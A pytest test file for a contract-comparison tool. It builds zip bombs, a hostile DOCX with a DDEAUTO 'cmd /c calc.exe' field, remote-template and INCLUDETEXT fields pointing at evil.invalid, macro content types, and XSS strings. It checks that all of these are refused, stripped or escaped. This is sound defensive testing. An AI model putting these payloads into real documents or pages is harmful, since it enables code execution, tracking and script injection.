"""Nothing runs, nothing escapes: zip bombs whose headers lie, DOCX outputs without macros,
remote templates or fetching fields, HTML whose attributes a hostile document cannot break
out of, outputs that never land on an input."""
from __future__ import annotations

import io
import os
import re
import shutil
import struct
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Dict, List, Tuple

import pytest
from click.testing import CliRunner
from lxml import etree

import redline.ooxml as ooxml
from docx_builder import build_docx, p, r, zip_members
from ooxml_views import body_text
from redline.api import compare, read
from redline.cli import cli
from redline.errors import InputError
from redline.ooxml import Package
from redline.render.docx_safety import FETCHING_FIELDS, strip_fetching_fields
from redline.render.docx_tracked import render_tracked

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
GOOD_BODY = p("LEAVES") + p("X.1 Members earn leave.")


# --- zip bombs: declared and actual sizes --------------------------------------------------

def _zip_members(data: bytes) -> Dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}



def _patch_headers(data: bytes, member: str, local_at: int, central_at: int, fmt: str,
                   value: int) -> bytes:
    """Rewrite one field (``fmt``: "<H" or "<I") of ``member``'s local and central zip
    headers, at ``local_at`` / ``central_at`` bytes into each header."""
    out = bytearray(data)
    name = member.encode()
    for sig, at, name_len_at, name_at in ((b"PK\x03\x04", local_at, 26, 30),
                                          (b"PK\x01\x02", central_at, 28, 46)):
        i = out.find(sig)
        while i >= 0:
            n = struct.unpack_from("<H", out, i + name_len_at)[0]
            if out[i + name_at:i + name_at + n] == name:
                struct.pack_into(fmt, out, i + at, value)
            i = out.find(sig, i + 4)
    return bytes(out)


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size the local and central headers declare for ``member``."""
    return _patch_headers(data, member, 22, 24, "<I", size)


def _set_header_field(data: bytes, member: str, local_at: int, central_at: int,
                      value: int) -> bytes:
    """Rewrite one 2-byte field of ``member``'s local and central zip headers."""
    return _patch_headers(data, member, local_at, central_at, "<H", value)


def _bomb_docx(inflated: int) -> bytes:
    """A DOCX whose document.xml inflates to about ``inflated`` bytes of zeros."""
    members = _zip_members(build_docx(GOOD_BODY))
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"X.1 Members", b"X.1 " + b"0" * inflated + b" Members")
    return zip_members(members)


def test_bomb_refused_by_declared_size(tmp_path: Path) -> None:
    """A header that declares 300 MB is refused before anything is inflated."""
    path = tmp_path / "declared.docx"
    path.write_bytes(_declare_size(build_docx(GOOD_BODY), "word/document.xml",
                                   300 * 1024 * 1024))
    with pytest.raises(InputError, match="would inflate to 314572800 bytes; refusing"):
        read(str(path))


def test_bomb_whose_header_lies_is_stopped_while_reading(tmp_path: Path) -> None:
    """The header declares 2 KB, the part inflates to 20 MB: reading stops at the declared
    size (and the damage is reported), never holding the 20 MB."""
    path = tmp_path / "liar.docx"
    path.write_bytes(_declare_size(_bomb_docx(20 * 1024 * 1024), "word/document.xml", 2048))
    assert path.stat().st_size < 100_000
    with pytest.raises(InputError) as err:
        read(str(path))
    assert "word/document.xml" in str(err.value) and str(path) in str(err.value)


def test_regression_part_read_counts_inflated_bytes(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """``Package.read`` used to trust the zip module to stop at the declared size.  It now
    counts what it inflates itself: a member stream that yields more than its header
    declares is refused, whatever the zip module does."""
    path = tmp_path / "ok.docx"
    path.write_bytes(build_docx(GOOD_BODY))
    pkg = Package(str(path))
    declared = pkg.names["word/document.xml"].file_size
    monkeypatch.setattr(pkg.zip, "open", lambda info: io.BytesIO(b"0" * (declared * 50)))
    with pytest.raises(InputError, match="past the size its zip header declares"):
        pkg.read("word/document.xml")
    pkg.close()


@pytest.mark.parametrize("limit, message", [
    ("MAX_PART_BYTES", "inflates past 1048576 bytes"),
    ("_RATIO_FLOOR", "inflates more than 200 times"),
])
def test_regression_part_read_limits_apply_to_inflated_bytes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, message: str) -> None:
    """The part size limit and the inflation ratio are checked on the bytes inflated,
    chunk by chunk, not only on the sizes the zip headers declare."""
    path = tmp_path / "big.docx"
    path.write_bytes(_bomb_docx(4 * 1024 * 1024))
    pkg = Package(str(path))  # declared sizes pass the 200 MB limit
    monkeypatch.setattr(ooxml, limit, 1024 * 1024)
    with pytest.raises(InputError, match=message):
        pkg.read("word/document.xml")
    pkg.close()


@pytest.mark.parametrize("field,local_at,central_at,value", [
    ("zip-version", 4, 6, 64),        # "version needed to extract": 6.4
    ("compression-method", 8, 10, 99),  # a method the zip module does not know
])
def test_regression_unsupported_zip_member_is_an_input_error(
        tmp_path: Path, field: str, local_at: int, central_at: int, value: int) -> None:
    """Found by benchmarks/fuzz.py: a damaged header byte claiming zip version 6.4 made the
    zip module raise NotImplementedError while opening the package, which escaped as a
    traceback.  (An unknown compression method was already caught when the part is read.)"""
    path = tmp_path / f"{field}.docx"
    path.write_bytes(_set_header_field(build_docx(GOOD_BODY), "word/document.xml",
                                       local_at, central_at, value))
    # the zip module checks the version when it opens the package, the method when it
    # opens the member
    expected = "not a DOCX file" if field == "zip-version" else \
        "word/document.xml cannot be read"
    with pytest.raises(InputError, match=expected) as err:
        read(str(path))
    assert str(path) in str(err.value) and "\n" not in str(err.value)
    res = CliRunner().invoke(cli, ["parse", str(path)])
    assert res.exit_code == 2 and expected in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


# --- DOCX output: no macros, no external fetches, no fetching fields -----------------------

def _complex_field(instr: str, result: str, split: bool = False) -> str:
    if split:  # Word often splits an instruction over several runs
        half = len(instr) // 2
        instr_runs = (f'<w:r><w:instrText xml:space="preserve">{instr[:half]}</w:instrText>'
                      f'</w:r><w:r><w:instrText xml:space="preserve">{instr[half:]}'
                      "</w:instrText></w:r>")
    else:
        instr_runs = f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instr_runs +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + r(result) +
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _hostile_body(last_word: str) -> str:
    return (
        p("ARTICLE 4 - TRANSFER")
        + p("4.1 Notice shall be given ",
            '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.invalid/x.docx&quot; ">'
            + r("within ten days") + "</w:fldSimple>", f" {last_word}.")
        + p("4.2 The parties ", _complex_field('DDEAUTO cmd "/c calc.exe"', "shall meet"),
            " monthly.")
        + p("4.3 A picture ",
            _complex_field('INCLUDEPICTURE "http://evil.invalid/a.png" \\d', "[picture]",
                           split=True), " is attached.")
        + p("4.4 See page ", _complex_field("PAGE", "3"), " and ",
            '<w:hyperlink r:id="rIdLink">' + r("the website") + "</w:hyperlink>", ".")
        + p("4.5 A linked image ",
            '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
            'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.'
            'openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip r:link="rIdImg"/>'
            "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>", " here.")
        + p("4.6 The ", _complex_field("IF 1 = 1 x", "outer result").replace(
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
            _complex_field("INCLUDETEXT a.docx", "") +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'), " stays.")
    )


_DOC_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PKG_REL}">'
    f'<Relationship Id="rIdStyles" Type="{R}/styles" Target="styles.xml"/>'
    f'<Relationship Id="rIdHeader1" Type="{R}/header" Target="header1.xml"/>'
    f'<Relationship Id="rIdSettings" Type="{R}/settings" Target="settings.xml"/>'
    f'<Relationship Id="rIdLink" Type="{R}/hyperlink" Target="https://example.org/"'
    ' TargetMode="External"/>'
    f'<Relationship Id="rIdImg" Type="{R}/image" Target="http://evil.invalid/track.png"'
    ' TargetMode="External"/>'
    f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="file:///c:/evil.xls"'
    ' TargetMode="External"/>'
    '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
    'vbaProject" Target="vbaProject.bin"/>'
    "</Relationships>").encode()

_SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PKG_REL}">'
    f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" '
    'Target="http://evil.invalid/template.dotm" TargetMode="External"/>'
    f'<Relationship Id="rIdSrc" Type="{R}/mailMergeSource" '
    'Target="file:///c:/data.mdb" TargetMode="External"/>'
    "</Relationships>").encode()

_SETTINGS = ('<w:attachedTemplate r:id="rIdTpl"/><w:mailMerge><w:mainDocumentType '
             'w:val="formLetters"/><w:query w:val="SELECT * FROM x"/>'
             '<w:dataSource r:id="rIdSrc"/></w:mailMerge>')


def hostile_docx(path: Path, last_word: str) -> None:
    """A proposal built to run or fetch things when opened: a macro project (and a .docm
    content type), a remote template, a mail-merge source, external image and OLE links,
    INCLUDETEXT/INCLUDEPICTURE/DDEAUTO fields in the body and a LINK field in the header."""
    data = build_docx(
        _hostile_body(last_word), settings=_SETTINGS,
        header=p("Union Counter Proposal 05/09/2024 ",
                 _complex_field('LINK Excel.Sheet.12 "http://evil.invalid/x.xlsx" "" \\a',
                                "1")),
        extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a macro project",
               "word/_rels/settings.xml.rels": _SETTINGS_RELS,
               "word/_rels/document.xml.rels": _DOC_RELS})
    members = _zip_members(data)
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/'
                     b'vnd.ms-office.vbaProject"/></Types>')
    path.write_bytes(zip_members(members))


@pytest.fixture(scope="module")
def hostile_pair(tmp_path_factory: pytest.TempPathFactory) -> Tuple[Path, Path, bytes]:
    tmp = tmp_path_factory.mktemp("hostile")
    old, new = tmp / "old.docx", tmp / "new.docx"
    hostile_docx(old, "days")
    hostile_docx(new, "working days")
    return old, new, render_tracked(compare(str(old), str(new)))


def _parts(data: bytes) -> Dict[str, bytes]:
    return _zip_members(data)


def _field_instructions(root: etree._Element) -> List[str]:
    """The instruction of every field in a part (simple and complex, nested ones apart)."""
    out = [el.get(f"{{{W}}}instr", "") for el in root.iter(f"{{{W}}}fldSimple")]
    stack: List[List[str]] = []
    for el in root.iter(f"{{{W}}}fldChar", f"{{{W}}}instrText", f"{{{W}}}delInstrText"):
        kind = el.get(f"{{{W}}}fldCharType")
        if kind == "begin":
            stack.append([])
        elif kind == "end" and stack:
            out.append("".join(stack.pop()))
        elif kind is None and stack:
            stack[-1].append(el.text or "")
    out.extend("".join(parts) for parts in stack)
    return out


def test_hostile_input_reads(hostile_pair: Tuple[Path, Path, bytes]) -> None:
    """The reader keeps field results, never instructions, and runs nothing."""
    old, _, _ = hostile_pair
    doc = read(str(old))
    text = " ".join(c.full_text for c in doc.clauses)
    assert "within ten days" in text and "shall meet" in text and "evil" not in text


def test_regression_macros_leave_no_relationship_or_content_type(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    """The macro project was deleted but its relationship and the macro-enabled content
    type stayed (Word refuses a .docx whose body says it carries macros)."""
    parts = _parts(hostile_pair[2])
    assert not [n for n in parts if re.search(r"vba|activeX", n, re.I)]
    types = parts["[Content_Types].xml"].decode()
    assert "macroEnabled" not in types and "vbaProject" not in types
    assert "wordprocessingml.document.main+xml" in types


def test_tracked_output_has_no_external_relationships_but_hyperlinks(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    parts = _parts(hostile_pair[2])
    hyperlinks = 0
    for name in [n for n in parts if n.endswith(".rels")]:
        for rel in etree.fromstring(parts[name]):
            if rel.get("TargetMode") == "External":
                assert rel.get("Type", "").endswith("/hyperlink"), (name, rel.attrib)
                hyperlinks += 1
            assert not rel.get("Type", "").endswith(("/attachedTemplate", "/vbaProject"))
    assert hyperlinks >= 1  # the link to the website is kept


def test_tracked_output_has_no_dangling_relationship_ids(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    """Removed relationships take their references with them (Word calls a document with a
    dangling r:id damaged)."""
    parts = _parts(hostile_pair[2])
    for name, data in parts.items():
        if not name.endswith(".xml") or name.startswith("["):
            continue
        folder, _, base = name.rpartition("/")
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        ids = {rel.get("Id") for rel in etree.fromstring(parts[rels_name])} \
            if rels_name in parts else set()
        for el in etree.fromstring(data).iter():
            for attr, value in el.attrib.items():
                if attr.startswith(f"{{{R}}}"):
                    assert value in ids, (name, el.tag, value)


def test_regression_remote_template_and_mail_merge_removed(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    """settings.xml and its relationships (a remote attachedTemplate, a mail-merge data
    source) were copied as they were: only document.xml's relationships were checked."""
    settings = _parts(hostile_pair[2])["word/settings.xml"]
    root = etree.fromstring(settings)
    assert root.find(f"{{{W}}}attachedTemplate") is None
    assert root.find(f"{{{W}}}mailMerge") is None


def test_regression_fetching_fields_removed_from_every_part(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    """INCLUDETEXT, INCLUDEPICTURE, DDEAUTO (body) and LINK (header) fields were copied
    from the hostile input into the output."""
    parts = _parts(hostile_pair[2])
    for name, data in parts.items():
        if name.startswith("word/") and name.endswith(".xml"):
            for instr in _field_instructions(etree.fromstring(data)):
                words = set(instr.upper().replace('"', " ").split())
                assert not words & FETCHING_FIELDS, (name, instr)
    body = parts["word/document.xml"].decode()
    assert "PAGE" in body  # a harmless field stays a field


def test_tracked_output_keeps_field_results_and_round_trips(
        hostile_pair: Tuple[Path, Path, bytes]) -> None:
    old, new, data = hostile_pair
    assert body_text(data, "accept") == body_text(new.read_bytes(), "accept")
    assert body_text(data, "reject") == body_text(old.read_bytes(), "accept")
    assert "within ten days" in body_text(data, "accept")


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) not found")
def test_sanitised_output_opens_in_libreoffice(hostile_pair: Tuple[Path, Path, bytes],
                                               tmp_path: Path) -> None:
    src = tmp_path / "tracked.docx"
    src.write_bytes(hostile_pair[2])
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "txt:Text", "--outdir", str(tmp_path), str(src)],
                   check=True, capture_output=True, timeout=180)
    text = (tmp_path / "tracked.txt").read_text(encoding="utf-8-sig")
    assert "4.2 The parties shall meet monthly." in text


# field stripping, one case per shape of field
_FIELD_CASES = {
    "simple": ('<w:fldSimple w:instr="INCLUDETEXT c:\\\\x.docx">' + r("kept") +
               "</w:fldSimple>", "kept"),
    "complex": (_complex_field('INCLUDEPICTURE "http://x/a.png"', "kept"), "kept"),
    "split-instruction": (_complex_field("INCLUDETEXT http://x/a.docx", "kept", split=True),
                          "kept"),
    "lower-case": (_complex_field("includetext a.docx", "kept"), "kept"),
    "dde": (_complex_field('DDE Excel "c:\\\\a.xls" R1C1', "kept"), "kept"),
    "import": (_complex_field("IMPORT http://x/a.wmf", "kept"), "kept"),
    "link": (_complex_field("LINK Word.Document.8 a.doc", "kept"), "kept"),
    "no-result": ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO x'
                  '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>', ""),
    "nested-in-instruction": (_complex_field(
        "IF 1 = 1 x", "kept").replace(
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
        _complex_field("INCLUDETEXT a.docx", "inner") +
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'), "innerkept"),
    "deleted": ("<w:del w:id=\"1\" w:author=\"A\" w:date=\"2024-01-01T00:00:00Z\">" +
                _complex_field("INCLUDETEXT a.docx", "kept").replace(
                    "instrText", "delInstrText").replace("<w:t ", "<w:delText ").replace(
                    "</w:t>", "</w:delText>") + "</w:del>", "kept"),
}


@pytest.mark.parametrize("case", sorted(_FIELD_CASES))
def test_fetching_field_is_stripped_result_kept(case: str) -> None:
    snippet, result = _FIELD_CASES[case]
    root = etree.fromstring(f'<w:body xmlns:w="{W}" xmlns:r="{R}">{p("A ", snippet)}</w:body>')
    assert strip_fetching_fields(root) >= 1
    text = "".join(t.text or "" for t in root.iter(f"{{{W}}}t", f"{{{W}}}delText"))
    assert text == "A " + result
    for instr in _field_instructions(root):
        assert not set(instr.upper().split()) & FETCHING_FIELDS
    # the field characters balance: no begin without its end
    kinds = [el.get(f"{{{W}}}fldCharType") for el in root.iter(f"{{{W}}}fldChar")]
    assert kinds.count("begin") == kinds.count("end")


@pytest.mark.parametrize("instr", ["PAGE", "MERGEFIELD Name", 'HYPERLINK "https://x.org"',
                                   "DATE \\@ \"M/d/yyyy\"", "TOC \\o \"1-3\""])
def test_harmless_field_is_kept(instr: str) -> None:
    root = etree.fromstring(f'<w:body xmlns:w="{W}" xmlns:r="{R}">'
                            f'{p("A ", _complex_field(instr, "x"))}</w:body>')
    before = etree.tostring(root)
    assert strip_fetching_fields(root) == 0
    assert etree.tostring(root) == before


# --- HTML: text and attributes from a hostile document -------------------------------------

HOSTILE = ('"><script>alert(1)</script><img src=x onerror=alert(2)>'
           "' onmouseover='alert(3)' style='background:url(http://evil.invalid/)' &amp;")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: List[Tuple[str, List[Tuple[str, str]]]] = []
        self.text: List[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


_STYLE = re.compile(r"^(?:(?:color:#[0-9A-F]{6}|text-decoration:[a-z -]+|font-weight:bold|"
                    r"font-style:italic|--level:\d+);?)*$")


def assert_inert_html(html: str) -> None:
    parsed = _Tags()
    parsed.feed(html)
    names = [t for t, _ in parsed.tags]
    assert "script" not in names and "img" not in names and "iframe" not in names
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name == "style":
                assert _STYLE.match(value or ""), (tag, value)
            if name == "href":
                assert (value or "").startswith("#"), (tag, value)
            if name == "src":
                raise AssertionError(f"{tag} has a src attribute")
    csp = [dict(a) for t, a in parsed.tags if t == "meta" and
           dict(a).get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in csp[0]["content"]
    assert "script-src" not in csp[0]["content"]


def _hostile_text(tmp_path: Path, name: str, extra: str) -> str:
    path = tmp_path / name
    path.write_text(f"ARTICLE 4 - TRANSFER {HOSTILE}\n\n"
                    f"4.1 {HOSTILE} Heading\n\n"
                    f"4.2 Notice shall be given {extra}. {HOSTILE}\n\n"
                    f"District agrees with language 05/09/2024 {HOSTILE}\n", encoding="utf-8")
    return str(path)


def test_compare_html_escapes_text_and_attributes(tmp_path: Path) -> None:
    a = _hostile_text(tmp_path, "a.txt", "within ten days")
    b = _hostile_text(tmp_path, "b.txt", "within fifteen days")
    out = tmp_path / "c.html"
    res = CliRunner().invoke(cli, ["compare", a, b, "-o", str(out), "--party", HOSTILE])
    assert res.exit_code == 1, res.output
    html = out.read_text(encoding="utf-8")
    assert_inert_html(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_history_html_escapes_text_and_attributes(tmp_path: Path) -> None:
    a = _hostile_text(tmp_path, "a.txt", "within ten days")
    b = _hostile_text(tmp_path, "b.txt", "within fifteen days")
    out = tmp_path / "h.html"
    res = CliRunner().invoke(cli, ["history", a, b, "--round", "District 2024-05-02",
                                   "--round", f"Union 2024-05-09 {HOSTILE}", "-o", str(out)])
    assert res.exit_code == 0, res.output
    html = out.read_text(encoding="utf-8")
    assert_inert_html(html)
    assert "&lt;script&gt;" in html


def test_regression_key_party_colour_is_checked(tmp_path: Path) -> None:
    """A by-party colour in a key file went into HTML style attributes (and DOCX run
    colours) unchecked: a value such as ``"><script>`` broke out of the attribute, and
    the DOCX writer failed with a traceback."""
    a = _hostile_text(tmp_path, "a.txt", "within ten days")
    b = _hostile_text(tmp_path, "b.txt", "within fifteen days")
    key = tmp_path / "key.toml"
    key.write_text('convention = "by-party"\n[parties.Union]\n'
                   'color = "0000FF\\"><script>alert(1)</script>"\n')
    out = tmp_path / "h.html"
    res = CliRunner().invoke(cli, ["history", a, b, "--round", "District 2024-05-02",
                                   "--round", "Union 2024-05-09", "--key", str(key),
                                   "-o", str(out)])
    assert res.exit_code == 2 and "color must be RRGGBB" in res.stderr
    assert str(key) in res.stderr and not out.exists()


def test_regression_history_colour_key_refuses_what_is_not_a_colour() -> None:
    """A ColourKey built through the API is checked too (its colours go into attributes)."""
    from redline.align.history import build_history
    from redline.model import Proposal
    from redline.render.history import ColourKey, render_history_html

    with pytest.raises(ValueError, match="not RRGGBB"):
        ColourKey(round_colours={("Union", "2024-05-09"): HOSTILE})
    with pytest.raises(ValueError, match="not RRGGBB"):
        ColourKey(party_colours={"Union": "red;background:url(x)"})
    docs = [read_text_doc("4.1 Notice within ten days."),
            read_text_doc(f"4.1 Notice within fifteen days. {HOSTILE}")]
    h = build_history(docs, [Proposal("District", "2024-05-02"),
                             Proposal("Union", "2024-05-09", HOSTILE)])
    assert_inert_html(render_history_html(h, ColourKey(round_colours={
        ("Union", "2024-05-09"): "00b050"})))


def read_text_doc(text: str):
    from redline.readers.blocks import RawDocument, RawParagraph
    from redline.readers.build import build_document
    from redline.model import Span

    raw = RawDocument(blocks=[RawParagraph(spans=[Span("ARTICLE 4 - TRANSFER")]),
                              RawParagraph(spans=[Span(text)])])
    return build_document(raw, "memory.txt", "text")


# --- outputs never land on an input --------------------------------------------------------

def _inputs(tmp_path: Path) -> Tuple[Path, Path]:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text("District Initial Proposal 02/07/2024\n\nARTICLE 4 - TRANSFER\n\n"
                 "4.1 Notice within ten days.\n")
    b.write_text("Union Counter Proposal 03/07/2024\n\nARTICLE 4 - TRANSFER\n\n"
                 "4.1 Notice within fifteen days.\n")
    return a, b


def _aliases(tmp_path: Path, target: Path) -> Dict[str, str]:
    """Other names for ``target``: a symlink, a relative path with ``..``, a hard link."""
    sub = tmp_path / "sub"
    sub.mkdir(exist_ok=True)
    link = tmp_path / f"link-{target.name}"
    if not link.exists():
        link.symlink_to(target)
    hard = tmp_path / f"hard-{target.name}"
    if not hard.exists():
        os.link(target, hard)
    return {"same": str(target), "symlink": str(link),
            "dotdot": os.path.relpath(sub / ".." / target.name),
            "hardlink": str(hard)}


@pytest.mark.parametrize("alias", ["same", "symlink", "dotdot", "hardlink"])
@pytest.mark.parametrize("command", ["parse", "compare", "history", "history-key"])
def test_output_over_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         command: str, alias: str) -> None:
    monkeypatch.chdir(tmp_path)
    a, b = _inputs(tmp_path)
    key = tmp_path / "key.toml"
    key.write_text('convention = "by-round"\n')
    victim = key if command == "history-key" else b
    out = _aliases(tmp_path, victim)[alias]
    before = victim.read_bytes()
    args = {"parse": ["parse", str(b), "-o", out, "-f", "json"],
            "compare": ["compare", str(a), str(b), "-o", out, "-f", "json"],
            "history": ["history", str(a), str(b), "-o", out, "-f", "json"],
            "history-key": ["history", str(a), str(b), "--key", str(key), "-o", out,
                            "-f", "json"]}[command]
    res = CliRunner().invoke(cli, args)
    assert res.exit_code == 2, res.output
    assert "overwrite an input" in res.stderr and len(res.stderr.strip().splitlines()) == 1
    assert victim.read_bytes() == before
    assert not list(tmp_path.glob(".redline-*.tmp"))


def test_regression_numbering_attributes_that_are_not_numbers(tmp_path: Path) -> None:
    """Found by benchmarks/fuzz.py: ``<w:start w:val="&amp;1"/>`` in numbering.xml made the
    reader fail with ``ValueError: invalid literal for int()``; list levels past 8 would
    index past the counters, and a ``w:sym`` naming a surrogate would break JSON output."""
    from docx_builder import abstract_num, num

    numbering = (abstract_num(1, ("decimal", "X.%1", "&amp;1"), ("lowerLetter", "(%2)", "x"))
                 .replace('w:ilvl="1"', 'w:ilvl="lots"') +
                 num(1, 1).replace("</w:num>", '<w:lvlOverride w:ilvl="99"><w:startOverride '
                                               'w:val="two"/></w:lvlOverride></w:num>'))
    path = tmp_path / "numbering.docx"
    build_docx(p("ARTICLE 4 - TRANSFER") + p("Notice applies.", num=(1, 0)) +
               p("Deep item.", num=(1, 42)) + p("Negative item.", num=(1, -3)) +
               p("X.2 A ", '<w:r><w:sym w:font="Symbol" w:char="D800"/></w:r>',
                 '<w:r><w:sym w:font="Symbol" w:char="FFFFFFFFFF"/></w:r>', "symbol."),
               numbering=numbering, path=path)
    doc = read(str(path))
    # a damaged level reads as level 0 (here it overrides the real one): labels may be
    # odd, the text is all there
    assert [c.text for c in doc.clauses] == ["Notice applies.", "Deep item.",
                                             "Negative item.", "A symbol."]
    out = tmp_path / "out.json"
    res = CliRunner().invoke(cli, ["parse", str(path), "-o", str(out)])
    assert res.exit_code == 0, res.exception


def test_regression_numbering_level_without_values(tmp_path: Path) -> None:
    """Found by benchmarks/fuzz.py (a 10-minute run, example 29,238): a ``w:lvlText`` or
    ``w:numFmt`` without its ``w:val`` made the reader fail with ``TypeError: argument of
    type 'NoneType' is not iterable``; such a level now reads as a plain decimal one.  A
    ``w:name`` without its value (the same shape, in styles.xml) crashed alike."""
    from docx_builder import abstract_num, num

    numbering = (abstract_num(1, ("decimal", "X.%1"), ("lowerLetter", "(%2)"))
                 .replace('<w:lvlText w:val="X.%1"/>', "<w:lvlText/>")
                 .replace('<w:numFmt w:val="lowerLetter"/>', "<w:numFmt/>") + num(1, 1))
    path = tmp_path / "levels.docx"
    build_docx(p("ARTICLE 4 - TRANSFER") + p("Notice applies.", num=(1, 0)) +
               p("An item.", num=(1, 1)) + p("Styled text.", style="Nameless"),
               numbering=numbering, path=path,
               styles='<w:style w:type="paragraph" w:styleId="Nameless"><w:name/></w:style>')
    doc = read(str(path))
    assert [c.text for c in doc.clauses] == ["Notice applies.", "An item.", "Styled text."]
    res = CliRunner().invoke(cli, ["parse", str(path), "-o", str(tmp_path / "out.json")])
    assert res.exit_code == 0, res.exception
